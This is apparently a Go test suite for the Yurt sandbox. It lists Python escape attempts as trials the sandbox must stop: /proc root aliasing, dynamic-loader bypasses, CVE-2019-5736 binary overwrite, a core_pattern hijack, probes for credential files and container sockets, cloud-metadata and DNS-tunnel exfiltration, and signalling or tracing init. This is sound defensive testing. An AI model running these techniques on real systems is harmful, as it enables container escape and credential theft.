package attack

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// canary is a file of the host that everybody may read, and that no sandbox may.
func canary(t *testing.T) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "canary")
	if err := os.WriteFile(file, []byte("secret of the host"), 0o644); err != nil {
		t.Fatal(err)
	}
	for dir := filepath.Dir(file); dir != "/" && dir != os.TempDir(); dir = filepath.Dir(dir) {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return fmt.Sprintf("CANARY = %q", file)
}

// aliasBattery names files by ways around a rule that knows paths by their text.
func aliasBattery() battery {
	b := battery{
		name: "aliases", about: "Code names a file of the host by another path than its own, as rules that compare paths are led astray.",
		layer: byNamespaces, stopped: []string{"ENOENT", "EACCES", "EPERM", "ENOTDIR", "EXDEV"},
		fails: "the host's tree is not in the sandbox's mount namespace, by whatever name; and rules for files hold of the file, not of its name",
		facts: canary,
		python: `
def find(prefix):
    return open(prefix + CANARY).read()
def up(path):
    fd = os.open(path, os.O_RDONLY)
    return find(f'/proc/self/fd/{fd}/' + '../' * 20)
`,
	}
	for _, a := range []struct{ name, prefix string }{
		{"self-root", "/proc/self/root"},
		{"self-root-twice", "/proc/self/root/proc/self/root"},
		{"self-root-up", "/proc/self/root/../.."},
		{"thread-self-root", "/proc/thread-self/root"},
		{"self-cwd-up", "/proc/self/cwd/../../../.."},
		{"slashes", "////proc//self///root//"},
		{"dots", "/./proc/./self/./root/."},
		{"dev-fd-up", "/dev/fd/../root"},
		{"up", "/../../.."},
		{"etc-mtab", "/etc/mtab/../root"},
		{"proc-mounts", "/proc/mounts/../root"},
		{"net", "/proc/net/../root"},
	} {
		b.trials = append(b.trials, trial{name: a.name, tries: "a file of the host through " + a.prefix, code: fmt.Sprintf("return find(%q)", a.prefix)})
	}
	b.trials[0].without = onHost
	b.trials[3].without = onHost
	for _, a := range []struct{ name, code, tries string }{
		{"init-root", "return find('/proc/1/root')", "a file of the host through /proc/1/root"},
		{"init-cwd", "return find('/proc/1/cwd')", "a file of the host through /proc/1/cwd"},
		{"parent-root", "return find(f'/proc/{os.getppid()}/root/../..')", "a file of the host through the root of the parent"},
		{"task-root", "import threading\nreturn find(f'/proc/self/task/{threading.get_native_id()}/root/../..')", "a file of the host through the root of a thread"},
		{"open-directory", "return up('/')", "a file of the host from an open directory, and up"},
		{"open-proc", "return up('/proc')", "a file of the host from an open /proc, and up"},
		{"open-workspace", "return up('/tmp')", "a file of the host from an open directory of its own, and up"},
		{"fchdir-removed", "os.mkdir('/tmp/gone'); os.chdir('/tmp/gone'); os.rmdir('/tmp/gone')\nreturn open('../' * 20 + CANARY).read()", "a file of the host from a directory that was removed"},
		{"symlink", "os.symlink('/proc/self/root' + CANARY, 'link')\nreturn open('link').read()", "a file of the host through a link through /proc/self/root"},
		{"openat2", "fd = call('openat2', os.open('/tmp', os.O_RDONLY), ('../' * 20 + CANARY[1:]).encode(), struct.pack('3Q', os.O_RDONLY, 0, 0), 24)\nreturn os.read(fd, 100)", "a file of the host by openat2 without a rule"},
	} {
		t := trial{name: a.name, tries: a.tries, code: a.code}
		if a.name == "open-directory" || a.name == "symlink" || a.name == "openat2" || a.name == "parent-root" {
			t.without = onHost
		}
		b.trials = append(b.trials, t)
	}
	for _, a := range []struct {
		name, code, tries string
		layer             layer
	}{
		{"masked-kcore", "text = open('/proc/self/root/proc/kcore', 'rb').read(10)\nif not text: raise Held\nreturn text", "a masked file by an alias", byMounts},
		{"masked-sysrq", "if os.stat('/proc/self/root/proc/sysrq-trigger').st_rdev == os.makedev(1, 3): raise Held\nreturn write('/proc/self/root/proc/sysrq-trigger', 'h')", "a masked file that acts, by an alias", byMounts},
		{"read-only-sys", "return write('/proc/self/root/proc/sys/kernel/core_pattern', '|/tmp/x')", "a read-only file by an alias", byMounts},
		{"usr", "return os.open('/proc/self/root/usr/bin/yurt-was-here', os.O_WRONLY | os.O_CREAT)", "a program of the host's by an alias", byMounts},
		{"etc-passwd", "return os.open('/proc/self/root/etc/passwd', os.O_WRONLY)", "the users of the sandbox by an alias", byMounts},
		{"own-memory", "return os.open('/proc/self/root/proc/self/mem', os.O_WRONLY)", "its own memory as a file, by an alias", byLandlock},
		{"reopened-read-only", "fd = os.open('/etc/passwd', os.O_RDONLY)\nreturn os.open(f'/proc/self/fd/{fd}', os.O_RDWR)", "a file opened to be read, once more to be written", byMounts},
		{"reopened-directory", "fd = os.open('/usr/bin', os.O_RDONLY)\nreturn os.open(f'/proc/self/fd/{fd}/x', os.O_WRONLY | os.O_CREAT)", "a file made below a directory opened to be read", byMounts},
		{"deleted-exe", "return os.open('/proc/self/exe', os.O_RDWR)", "the interpreter that runs (CVE-2019-5736)", byMounts},
		{"map-files", "name = os.listdir('/proc/self/map_files')[0]\nreturn os.open('/proc/self/map_files/' + name, os.O_RDWR)", "a file by its mapping", byMounts},
	} {
		b.trials = append(b.trials, trial{name: a.name, tries: a.tries, code: a.code, layer: a.layer, stopped: []string{"held", "EROFS", "EACCES", "EPERM", "ENOENT", "ETXTBSY"}})
	}
	return b
}

// loaderBattery runs programs by the dynamic loader, as a way around a rule for the program.
func loaderBattery() battery {
	b := battery{
		name: "loader", about: "Code runs programs through ld-linux.so, whose name is all that a rule for programs sees.",
		layer: byFilter, stopped: []string{"held"},
		fails: "the rights of a process do not depend on how its program was started: the filter, the rules for files and no-new-privileges are inherited",
		python: `
import glob
LOADER = (glob.glob('/lib64/ld-linux-*.so.*') + glob.glob('/lib/ld-linux-*.so.*'))[0]
def loaded(*argv, **more):
    r = subprocess.run([LOADER, *argv], capture_output=True, text=True, **more)
    if r.returncode != 0: raise Held
    return r.stdout
PYTHON = os.path.realpath('/usr/bin/python3')
`,
	}
	for _, a := range []struct {
		name, tries, code string
		layer             layer
		off               surroundings
	}{
		{"unshare", "a new user namespace by a program that the loader runs", "return loaded(PYTHON, '-c', 'import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x10000000))')", byFilter, inNamespaces},
		{"mount", "a mount by a program that the loader runs", "return loaded('/usr/bin/mount', '-t', 'tmpfs', 'x', '/tmp')", byFilter, inNamespaces},
		{"setuid-program", "root by a set-uid program that the loader runs", "out = loaded('/usr/bin/id', '-u')\nif out != '0\\n': raise Held\nreturn out", byIdentity, inNamespaces},
		{"init", "running yurt-init, whose binary cannot be read", "return loaded('/.yurt-init')", byIdentity, ""},
		{"noexec", "a program of /dev/shm, where no program may run", "import shutil\nshutil.copy('/usr/bin/true', '/dev/shm/true'); os.chmod('/dev/shm/true', 0o755)\nreturn loaded('/dev/shm/true')", byMounts, ""},
		{"proc-exe", "a program by a link of /proc", "return loaded('/proc/1/exe')", byNamespaces, ""},
		{"write-usr", "a file among the host's programs", "return loaded('/usr/bin/touch', '/usr/bin/yurt-was-here')", byMounts, ""},
		{"preload", "another library in the place of the C library, and a namespace", "return loaded('--preload', 'libc.so.6', PYTHON, '-c', 'import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x10000000))')", byFilter, inNamespaces},
		{"memfd", "a program that no file system holds, and a namespace", "fd = os.memfd_create('x', 0); os.write(fd, open(os.path.realpath('/usr/bin/unshare'), 'rb').read())\nreturn loaded(f'/proc/self/fd/{fd}', '-U', 'true', pass_fds=[fd])", byFilter, ""},
	} {
		b.trials = append(b.trials, trial{name: a.name, tries: a.tries, code: a.code, layer: a.layer, without: a.off})
	}
	return b
}

// placesBattery looks for files and sockets of the host that a sandbox lacks.
func placesBattery() battery {
	b := battery{
		name: "places", about: "Code looks for files and sockets of the host at the places where they usually are.",
		layer: byMounts, stopped: []string{"ENOENT", "EACCES"},
		fails: "of the host a sandbox has /usr and its like alone, and of /etc a handful of files that were made for it",
	}
	for _, path := range strings.Fields(`/etc/shadow /etc/gshadow /etc/sudoers /etc/ssh /etc/crontab /etc/cron.d /etc/systemd /etc/init.d /etc/rc.local /etc/machine-id /etc/docker /etc/kubernetes /etc/nomad.d /etc/consul.d /etc/vault.d /etc/yurt
		/root /root/.ssh /root/.aws/credentials /root/.docker/config.json /root/.kube/config /root/.git-credentials /home /boot /opt /srv /mnt /media /lost+found /snap
		/var/lib/docker /var/lib/kubelet /var/lib/containerd /var/lib/nomad /var/lib/yurt /var/log /var/spool/cron /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock
		/run/podman/podman.sock /run/crio/crio.sock /run/systemd/private /run/dbus/system_bus_socket /run/nscd/socket /run/secrets /var/run/secrets/kubernetes.io/serviceaccount/token /run/user /run/udev /run/lock /run/libvirt/libvirt-sock
		/.dockerenv /run/.containerenv /proc/self/root/root /flag.txt /swapfile`) {
		a := trial{name: strings.Trim(path, "/"), tries: "finding " + path, code: fmt.Sprintf("return absent(%q)", path)}
		if path == "/etc/shadow" || path == "/root" || path == "/var/log" || path == "/boot" || path == "/home" {
			a.without = onHost
		}
		b.trials = append(b.trials, a)
	}
	return b
}

// targets are servers on the host for the time of the test.
func targets(t *testing.T) string {
	t.Helper()
	tcp := listen(t, "tcp", "0.0.0.0:0").(*net.TCPAddr)
	path := listen(t, "unix", filepath.Join(t.TempDir(), "socket"))
	abstract := listen(t, "unix", fmt.Sprintf("@yurt-attack-%s", t.Name()))
	addresses, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var hosts []string
	for _, a := range addresses {
		if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
			hosts = append(hosts, fmt.Sprintf("%q", ip.IP))
		}
	}
	return fmt.Sprintf("PORT, HOSTS, PATH, ABSTRACT = %d, [%s], %q, %q.replace('@', '\\0')", tcp.Port, strings.Join(hosts, ", "), path, abstract)
}

func targetBattery() battery {
	b := battery{
		name: "network", about: "Code reaches for servers of the host, of its cloud and of the world.",
		layer: byNamespaces, stopped: []string{"ENETUNREACH", "ECONNREFUSED", "EACCES", "EPERM", "ENOENT", "EADDRNOTAVAIL", "ENODEV", "EINVAL", "ENETDOWN"},
		fails: "the network namespace has a loopback interface of its own and no route; names of Unix sockets belong to the mount and the network namespace",
		facts: targets,
		python: `
def reach(host, port):
    return socket.create_connection((host, port), 2)
def tell(host, port=53):
    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b'secret', (host, port))
`,
	}
	for _, a := range []struct{ name, tries, code string }{
		{"host-loopback", "a server on the loopback of the node", "return reach('127.0.0.1', PORT)"},
		{"host-loopback-other", "it, by another address of loopback", "return reach('127.0.0.2', PORT)"},
		{"host-any", "it, by the address 0.0.0.0", "return reach('0.0.0.0', PORT)"},
		{"host-loopback-6", "it, by IPv6", "return reach('::1', PORT)"},
		{"host-loopback-mapped", "it, by IPv4 in IPv6", "return reach('::ffff:127.0.0.1', PORT)"},
		{"host-addresses", "it, by the addresses of the node", "for host in HOSTS: return reach(host, PORT)\nraise OSError(errno.ENETUNREACH, '')"},
		{"unix-path", "a Unix socket of the node by its path", "s = socket.socket(socket.AF_UNIX)\nreturn s.connect(PATH)"},
		{"unix-path-by-root", "it, through /proc/self/root", "s = socket.socket(socket.AF_UNIX)\nreturn s.connect('/proc/self/root' + PATH)"},
		{"unix-abstract", "a Unix socket of the node by an abstract name", "s = socket.socket(socket.AF_UNIX)\nreturn s.connect(ABSTRACT)"},
		{"docker-bridge", "the daemon of Docker on its bridge", "return reach('172.17.0.1', 2375)"},
		{"kubelet", "the kubelet of the node", "return reach('127.0.0.1', 10250)"},
		{"kubernetes", "the API server of a cluster", "return reach('10.96.0.1', 443)"},
		{"etcd", "etcd", "return reach('127.0.0.1', 2379)"},
		{"nomad", "Nomad's agent", "return reach('127.0.0.1', 4646)"},
		{"consul", "Consul's agent", "return reach('127.0.0.1', 8500)"},
		{"vault", "Vault", "return reach('127.0.0.1', 8200)"},
		{"controller", "the API of Yurt", "return reach('127.0.0.1', 8700)"},
		{"executor", "the executor of Yurt", "return reach('127.0.0.1', 8701)"},
		{"metadata", "the metadata service of a cloud", "return reach('169.254.169.254', 80)"},
		{"metadata-6", "the metadata service by IPv6", "return reach('fd00:ec2::254', 80)"},
		{"metadata-azure", "the wire server of Azure", "return reach('168.63.129.16', 80)"},
		{"metadata-ecs", "the credentials of a task of ECS", "return reach('169.254.170.2', 80)"},
		{"world", "a server of the world", "return reach('8.8.8.8', 443)"},
		{"world-6", "a server of the world by IPv6", "return reach('2606:4700:4700::1111', 443)"},
		{"private", "a private network", "return reach('192.168.1.1', 80)"},
		{"dns-tunnel", "a secret in a question to a server of names", "return tell('8.8.8.8')"},
		{"dns-tunnel-6", "it, by IPv6", "return tell('2001:4860:4860::8888')"},
		{"multicast", "a datagram to a group", "return tell('224.0.0.251', 5353)"},
		{"broadcast", "a datagram to all of a network", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\nreturn s.sendto(b'x', ('255.255.255.255', 67))"},
		{"bind-to-device", "a socket of another interface", "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 25, b'eth0\\0')\nreturn s.connect(('8.8.8.8', 53))"},
		{"mark", "a mark by which packets are routed elsewhere", "return socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)"},
		{"names", "names of the host's Unix sockets", "named = [l for l in open('/proc/net/unix').readlines()[1:] if len(l.split()) > 7]\nif not named: raise Held\nreturn named"},
		{"interfaces", "interfaces of the host", "names = [n for _, n in socket.if_nameindex()]\nif names == ['lo']: raise Held\nreturn names"},
		{"transparent", "a connection from an address that is not its own", "return socket.socket().setsockopt(socket.IPPROTO_IP, 19, 1)"},
	} {
		t := trial{name: a.name, tries: a.tries, code: a.code}
		switch a.name {
		case "mark", "transparent":
			t.layer, t.without = byCapabilities, inNamespaces
		case "names":
			t.stopped, t.without = []string{"held"}, onHost
		case "interfaces":
			t.stopped = []string{"held"}
		}
		b.trials = append(b.trials, t)
	}
	return b
}

func initBattery() battery {
	b := battery{
		name: "init", about: "Code signals, traces, slows and reads the first process of its sandbox.",
		layer: byIdentity, stopped: []string{"EPERM", "ESRCH", "EACCES", "ENOENT", "ENOSYS"},
		fails: "yurt-init is another user, not dumpable, and its first process, to which the kernel delivers no signal from below that it does not handle",
		python: `
word = ctypes.create_string_buffer(8)
IOV, THEIRS = struct.pack('QQ', ctypes.addressof(word), 8), struct.pack('QQ', 0x400000, 8)
`,
	}
	for _, s := range []struct {
		number int
		name   string
	}{{1, "SIGHUP"}, {2, "SIGINT"}, {3, "SIGQUIT"}, {9, "SIGKILL"}, {10, "SIGUSR1"}, {11, "SIGSEGV"}, {15, "SIGTERM"}, {17, "SIGCHLD"}, {18, "SIGCONT"}, {19, "SIGSTOP"}, {30, "SIGPWR"}, {63, "a real-time signal"}} {
		b.trials = append(b.trials, trial{name: fmt.Sprintf("signal-%02d", s.number), tries: "sending it " + s.name, code: fmt.Sprintf("return os.kill(1, %d)", s.number)})
	}
	for _, a := range []struct{ name, tries, code string }{
		{"signal-every", "sending it every signal", "for number in range(1, 65):\n    try: return os.kill(1, number)\n    except PermissionError as e: last = e\nraise last"},
		{"signal-by-descriptor", "sending it SIGKILL by a process descriptor", "return call('pidfd_send_signal', os.pidfd_open(1), 9, 0, 0)"},
		{"signal-queue", "sending it a signal with a value", "return call(129 if X86 else 138, 1, 9, bytes(128))"},
		{"signal-thread", "sending its thread SIGKILL", "return call(234 if X86 else 131, 1, 1, 9)"},
		{"ptrace-attach", "tracing it", "return call('ptrace', 16, 1, 0, 0)"},
		{"ptrace-seize", "tracing it without stopping it", "return call('ptrace', 0x4206, 1, 0, 0)"},
		{"memory-read", "reading its memory", "return call('process_vm_readv', 1, IOV, 1, THEIRS, 1, 0)"},
		{"memory-write", "writing to its memory", "return call('process_vm_writev', 1, IOV, 1, THEIRS, 1, 0)"},
		{"limits", "other limits for it", "import resource\nreturn resource.prlimit(1, resource.RLIMIT_NOFILE, (1, 1))"},
		{"priority", "a lower priority for it", "return os.setpriority(os.PRIO_PROCESS, 1, 19)"},
		{"affinity", "one processor for it", "return os.sched_setaffinity(1, {0})"},
		{"scheduler", "the idle scheduler for it", "return os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))"},
		{"io-priority", "the idle class of disks for it", "return call('ioprio_set', 1, 1, 3 << 13)"},
		{"own-scheduler", "real time for itself", "return os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))"},
		{"own-io-priority", "real time on disks for itself", "return call('ioprio_set', 1, 0, 1 << 13)"},
		{"replace", "another program in its place", "return os.rename('/usr/bin/true', '/.yurt-init')"},
		{"read-binary", "reading its binary", "return open('/.yurt-init', 'rb').read(4)"},
	} {
		t := trial{name: a.name, tries: a.tries, code: a.code}
		switch a.name {
		case "own-scheduler", "own-io-priority":
			t.layer = byRlimits
		case "replace":
			t.stopped = []string{"EPERM", "EACCES", "EROFS", "ENOENT", "EXDEV"}
		}
		b.trials = append(b.trials, t)
	}
	return b
}
